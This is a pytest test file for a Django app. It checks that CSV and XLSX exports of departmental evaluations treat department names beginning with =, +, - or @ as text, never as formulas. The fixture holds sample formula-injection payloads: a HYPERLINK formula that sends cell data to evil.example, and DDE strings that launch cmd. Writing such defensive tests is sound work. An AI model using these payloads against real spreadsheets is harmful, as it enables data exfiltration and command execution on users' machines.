"""Exported cells are data, never formulas: a department name starting with =, +, - or @ (typed by
whoever edits departments in the admin) is exported as text in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from departments.models import Department
from evaluations import services

from .support import AFTER, NOVEMBER

pytestmark = pytest.mark.django_db
NAMES = {
    "CALL_CENTER": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "CARD_CENTER": "+1+cmd|' /C calc'!A0",
    "RISK": "-2+3",
    "COMPLIANCE": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def exported(demo_story, user):
    for code, name in NAMES.items():
        Department.objects.filter(code=code).update(name=name, name_en=name)
    demo_story.closed()
    services.evaluation_compute_period(kind="monthly", start=NOVEMBER, now=AFTER)
    services.evaluation_compute_period(kind="monthly", start=date(2026, 10, 1), now=AFTER)
    client = Client()
    client.force_login(user("quality_officer"))
    return client


def test_csv_cells_starting_a_formula_are_prefixed_as_text(exported):
    text = exported.get("/admin/evaluations/evaluation/export/csv/?kind=monthly").content.decode("utf-8-sig")

    table = list(csv.reader(io.StringIO(text)))
    names = {row[0]: row[1] for row in table[1:]}
    for code, name in NAMES.items():
        assert names[code] == "'" + name
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def test_xlsx_cells_are_strings_with_the_name_as_written(exported):
    content = exported.get("/admin/evaluations/evaluation/export/xlsx/?kind=monthly").content

    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    names = {row[0].value: row[1] for row in rows}
    for code, name in NAMES.items():
        assert names[code].value == name
        assert names[code].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
